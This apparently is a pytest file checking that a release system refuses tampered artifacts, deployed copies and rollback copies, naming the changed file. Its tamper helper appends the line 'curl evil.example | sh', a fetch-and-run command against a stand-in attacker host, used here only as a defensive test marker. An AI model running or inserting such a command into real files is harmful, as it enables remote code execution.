"""Provenance: what an environment runs is byte for byte what the build made for that component
and version. A copy changed anywhere on the promotion path stops the release, naming the file."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from temporalio.client import Client

import artifacts
import files
import records
import release_management as rm
import rollback
from catalog import load_release
from deployments import artifact, at, deploy_all_steps
from ledger import read_ledger
from shared import CheckPromotionInput, Environment, ReleaseError, VerifyInput, VerifyRollbackInput
from test_releases import _failure_of, env_files, run

DEV, TEST = Environment.DEV, Environment.TEST


def tamper(path: Path) -> None:
    path.write_text(path.read_text() + "curl evil.example | sh\n")


def test_a_tampered_copy_in_the_environment_before_is_not_promoted(demo_root: Path) -> None:
    deploy_all_steps("frontend", "1.0", DEV)
    tamper(files.deployed_path(DEV, "frontend", "1.0"))
    release = load_release("RELEASE-NOV-23-INITIAL").model_copy(
        update={"versions": {"frontend": "1.0"}, "environments": [TEST]}
    )
    with pytest.raises(ReleaseError) as refused:
        rm.check_promotion(CheckPromotionInput(release=release))
    assert "environments/DEV/frontend-1.0.txt is not what the build of frontend 1.0 makes" in str(
        refused.value
    )
    assert not files.environment_dir(TEST).exists()


def test_a_tampered_copy_in_the_artifact_store_is_not_fetched(demo_root: Path) -> None:
    deploy_all_steps("frontend", "1.0", DEV)
    tamper(files.artifact_path("frontend", "1.0"))
    with pytest.raises(ReleaseError, match="artifactory/frontend-1.0.txt is not what the build"):
        rm.fetch_artifact(at("frontend", "1.0", TEST))


def test_a_deployed_copy_changed_before_its_verification_fails_it(demo_root: Path) -> None:
    deploy_all_steps("frontend", "1.0", DEV)
    sha = rm.fetch_artifact(at("frontend", "1.0", DEV)).sha256
    path = files.deployed_path(DEV, "frontend", "1.0")
    path.write_text(path.read_text().replace("Web", "Evil"))
    with pytest.raises(ReleaseError) as failed:
        rm.verify_deploy(VerifyInput(deployment=at("frontend", "1.0", DEV), artifact=artifact(sha)))
    assert "environments/DEV/frontend-1.0.txt is not what the build" in str(failed.value)


def test_a_tampered_artifact_in_artifactory_is_rebuilt_before_it_is_deployed(
    demo_root: Path,
) -> None:
    rm.build_artifact(at("frontend", "1.0", run="run-0"))
    tamper(files.artifact_path("frontend", "1.0"))
    deploy_all_steps(
        "frontend", "1.0", DEV
    )  # the build finds its artifact wrong and makes it again
    assert [line["step"] for line in read_ledger()].count("build") == 2
    built = files.deployed_path(DEV, "frontend", "1.0").read_text()
    assert files.sha256(built) == artifacts.built_digest("frontend", "1.0")


async def test_a_release_fed_from_a_tampered_environment_fails_before_any_change(
    client: Client, task_queue: str, demo_root: Path
) -> None:
    await run(client, task_queue, "RELEASE-JAN-24-ALPHA-DEV")
    tamper(demo_root / "environments" / "DEV" / "frontend-1.2.txt")
    before = env_files(demo_root)

    error, _ = await _failure_of(client, task_queue, "RELEASE-JAN-24-ALPHA-QC")

    assert error.type == "ReleaseError" and error.non_retryable
    assert "environments/DEV/frontend-1.2.txt is not what the build of frontend 1.2" in (
        error.message
    )
    assert env_files(demo_root) == before  # TEST and QC untouched
    (record,) = [r for r in records.release_history() if r["release_key"].endswith("ALPHA-QC")]
    assert record["result"].startswith("Release RELEASE-JAN-24-ALPHA-QC: FAILED: ")


def _replaced_by_an_unhealthy_deploy(kept: str) -> Path:
    """DEV ran frontend 1.0 (with its config); 1.1 replaced it. Returns the kept file named."""
    deploy_all_steps("frontend", "1.0", DEV)
    deploy_all_steps("frontend", "1.1", DEV)
    names = {"artifact": "frontend-1.0.txt", "config": "frontend.config.json"}
    return files.previous_dir(DEV) / names[kept]


def _change_a_setting(path: Path) -> None:
    config = json.loads(path.read_text())
    path.write_text(json.dumps(config | {"replicas": 9}))


# How a copy kept for a rollback is tampered with: each is refused.
TAMPERINGS = {
    "artifact changed": ("artifact", tamper),
    "artifact removed": ("artifact", Path.unlink),
    "config of another place": (
        "config",
        lambda path: path.write_text(json.dumps({"component": "frontend", "version": "1.0"})),
    ),
    "config setting changed": ("config", _change_a_setting),
    "config removed": ("config", Path.unlink),
}


@pytest.mark.parametrize(("kept", "change"), TAMPERINGS.values(), ids=list(TAMPERINGS))
def test_a_tampered_rollback_copy_is_not_put_back(
    demo_root: Path, kept: str, change: Callable[[Path], object]
) -> None:
    path = _replaced_by_an_unhealthy_deploy(kept)
    change(path)
    before, ledger = env_files(demo_root), read_ledger()

    with pytest.raises(ReleaseError) as refused:
        rollback.rollback_deploy(at("frontend", "1.1", DEV))

    assert f"environments/.previous/DEV/{path.name} is not" in str(refused.value)
    assert "not put back: DEV still holds frontend 1.1" in str(refused.value)
    assert env_files(demo_root) == before and read_ledger() == ledger


def test_a_rollback_that_put_back_a_changed_copy_fails_its_verification(demo_root: Path) -> None:
    _replaced_by_an_unhealthy_deploy("artifact")
    assert rollback.rollback_deploy(at("frontend", "1.1", DEV)) == "1.0"
    tamper(files.deployed_path(DEV, "frontend", "1.0"))

    with pytest.raises(ReleaseError) as failed:
        rollback.verify_rollback(
            VerifyRollbackInput(deployment=at("frontend", "1.1", DEV), previous="1.0")
        )

    assert "environments/DEV/frontend-1.0.txt is not what the build of frontend 1.0" in str(
        failed.value
    )
